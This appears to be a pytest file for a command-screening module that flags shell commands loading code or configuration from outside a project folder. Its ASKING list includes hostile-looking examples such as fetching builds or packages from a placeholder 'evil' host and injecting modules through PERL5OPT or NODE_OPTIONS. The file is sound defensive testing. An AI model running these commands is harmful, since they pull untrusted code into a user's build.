"""Code and configuration from outside the project are foreign, by whatever word or setting they are named."""

import pytest

from hub.screening.commands import is_dangerous, is_unknown, read_command

FOLDER = "/home/me/shop"
ASKING = (
    *("cd .. && make", "cd ../.. && pytest", "pushd .. && npm test", "cd src && cd ../.. && make", "(cd .. && make)"),
    *("git -C /tmp/evil status", "jj -R /tmp/evil st", "hg -R /tmp/evil st"),
    *("cd /tmp/evil && git status", "hg --cwd /tmp/evil status"),
    *("dotnet build /p:CscToolPath=/tmp", "dotnet build -p:CscToolPath=/tmp/x", "dotnet restore -s http://evil"),
    *("gradle wrapper --gradle-distribution-url http://evil/x.zip", "docker buildx bake https://evil"),
    *("npm link evil", "deno npm:evil", "deno jsr:@x/evil", "gleam add evil", "spago install evil", "elm install e/x"),
    *("swift package add-dependency https://evil --from 1.0", "swift package --disable-sandbox x"),
    *("rustup toolchain link x /tmp/x", "doxygen /tmp/Doxyfile", "ng generate /tmp/evil:x", "nx import https://evil"),
    *("checkov --external-checks-git https://evil -d .", "checkov --external-checks-dir /tmp/x -d ."),
    *("pulumi preview --policy-pack /tmp/x", "pulumi -C /tmp/x preview", "sam build -t /tmp/x", "sam build -s ../x"),
    *("TF_DATA_DIR=/tmp/x terraform plan", "terraform -chdir=../x validate"),
    *(
        "COVERAGE_RCFILE=/tmp/x coverage run a.py",
        "PERL5OPT=-Mevil perl -v",
        "PYTEST_ADDOPTS=-pevil pytest",
        "NODE_OPTIONS=-revil npm test",
    ),
)
SILENT = (
    *("cd src && make && cd ..", "cd src && cd .. && make", "cd .. && ls"),
    *("cd .. && cd shop && make", "pushd src && make && popd && make", "(cd .. && ls) && make", "cd build && cmake .."),
    *(
        "git -C src status",
        "git -C ../other status",
        "git -C /home/me/shop log --oneline",
        "jj st",
        "hg -R . st",
        "docker buildx bake",
    ),
    *("dotnet build /p:Configuration=Release", "dotnet build -c Release /t:Build", "dotnet restore"),
    *("gradle wrapper --gradle-version 8.5", "npm link", "deno task dev", "gleam run", "elm make src/Main.elm"),
    *("swift package resolve", "swift build", "rustup toolchain list", "doxygen Doxyfile", "doxygen", "checkov -d ."),
    *("ng generate component x", "ng g service cart --skip-tests", "nx build web", "pulumi preview"),
    *("sam build", "sam build -t template.yaml", "sam validate", "terraform plan", "terraform -chdir=infra validate"),
    *("kubectl get pods", "docker compose ps", "TF_LOG=info terraform plan", "COVERAGE_FILE=.cov coverage run a.py"),
    *("MAKEFLAGS=-j4 make", "MAKEFLAGS=-s make", "PYTEST_ADDOPTS=-q pytest", "GOFLAGS=-mod=mod go test ./..."),
)


@pytest.mark.parametrize("command", ASKING)
def test_a_person_is_asked(command: str) -> None:
    reading = read_command(command, folder=FOLDER)
    assert is_dangerous(reading) or is_unknown(reading), reading


@pytest.mark.parametrize("command", SILENT)
def test_nobody_is_asked(command: str) -> None:
    reading = read_command(command, folder=FOLDER)
    assert not is_dangerous(reading), reading
    assert not is_unknown(reading), reading
